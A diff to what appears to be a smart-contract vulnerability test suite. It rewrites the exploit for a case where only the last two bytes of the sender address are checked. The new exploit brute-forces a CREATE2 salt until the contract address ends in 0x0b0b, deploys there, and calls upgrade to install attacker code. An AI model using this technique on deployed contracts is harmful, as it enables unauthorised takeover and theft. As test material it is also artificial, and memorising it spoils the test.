@@ -8,6 +8,8 @@ import { NEW_EVM } from './second-writers.ts'
 
 type Draft = Omit<Case, 'cause' | 'truth'>
 
+/** Deploys the creation code after a salt in its calldata; local nodes have it, as most chains do. */
+const CREATE2_DEPLOYER: Hex = '0x4e59b44847b379578588920ca78fbf26c0b4956c'
 const PASSWORD = 'correct horse battery staple'
 const wordOf = (address: Hex): Hex => pad(address, { size: 32 }).toLowerCase() as Hex
 const hashOf = (address: Hex): Hex => keccak256(wordOf(address))
@@ -194,9 +196,17 @@ const drafts: readonly Draft[] = [
     name: 'only the last two bytes of the sender are compared',
     by: 'anyone',
     build: timelocked('AddressSuffix'),
-    exploit: async (attack, { address }) => {
-      const as = accountWhere(attack, (number) => number % 65_536n === 0x0b0bn)
-      await attack.send(address, 'upgradeTo(address)', [attack.code], { as })
+    exploit: async ({ send, sendRaw, code, chain }, { address }) => {
+      // A contract with such an address is faster to find than an account.
+      const creation = creationCodeOf(chain.own('ContractCaller'))
+      const hash = keccak256(creation)
+      const addressFor = (salt: Hex): Hex =>
+        `0x${keccak256(concatHex(['0xff', CREATE2_DEPLOYER, salt, hash])).slice(-40)}`
+      let number = 0n
+      while (!addressFor(toHex(number, { size: 32 })).endsWith('0b0b')) number += 1n
+      const salt = toHex(number, { size: 32 })
+      await sendRaw(CREATE2_DEPLOYER, concatHex([salt, creation]))
+      await send(addressFor(salt), 'upgrade(address,address)', [address, code])
     },
   },
   {
